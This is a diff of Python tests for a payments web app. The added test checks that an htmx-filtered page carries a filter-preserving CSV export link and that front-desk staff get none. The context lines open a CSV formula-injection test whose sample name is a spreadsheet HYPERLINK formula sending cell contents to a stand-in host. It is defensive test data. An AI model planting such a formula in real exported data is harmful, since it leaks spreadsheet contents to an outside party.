@@ -183,6 +183,22 @@ async def test_csv_export_streams_the_filtered_payments(bob, alice):
     assert rows[0]["receipt_number"].startswith("RCP-")
 
 
+async def test_the_export_link_follows_filters_applied_live(bob, alice):
+    await _three_payments()
+    full = await bob.get("/payments?method=cash")
+    assert full.text.count('data-testid="export-csv"') == 1 and "hx-swap-oob" not in full.text
+    # htmx filtering swaps the table only: the export link comes along out of band, with the filters.
+    live = await bob.get("/payments?method=bank&q=kcb&page=1", htmx=True)
+    link = re.search(r'<a[^>]*id="export-csv"[^>]*>', live.text).group(0)
+    assert 'hx-swap-oob="true"' in link
+    href = re.search(r'href="([^"]+)"', link).group(1).replace("&amp;", "&")
+    assert href.startswith("/payments.csv?") and "page=" not in href
+    rows = list(csv.DictReader(io.StringIO((await bob.get(href)).text)))
+    assert [(row["method"], row["reference"]) for row in rows] == [("bank", "KCB-99812")]
+    # Front desk has no export, live or not.
+    assert "export-csv" not in (await alice.get("/payments?method=bank", htmx=True)).text
+
+
 async def test_csv_export_writes_formulas_from_names_and_references_as_text(bob):
     # Names and references come from people and gateways; a spreadsheet would run these as formulas.
     name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
